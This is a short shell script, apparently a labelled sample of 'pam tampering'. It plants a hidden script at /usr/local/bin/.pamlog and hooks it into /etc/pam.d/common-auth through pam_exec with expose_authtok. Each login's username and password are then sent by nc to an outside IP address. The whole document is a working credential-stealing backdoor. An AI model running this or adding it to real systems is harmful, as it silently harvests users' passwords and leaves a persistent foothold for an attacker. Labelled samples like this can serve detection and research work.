# class: pam tampering; style: heredoc script
cat > /usr/local/bin/.pamlog <<'S'
#!/bin/sh
read -r p
echo "$PAM_USER:$p" | nc -w 2 198.51.100.99 514
S
chmod 755 /usr/local/bin/.pamlog
echo 'auth optional pam_exec.so quiet expose_authtok /usr/local/bin/.pamlog' >> /etc/pam.d/common-auth
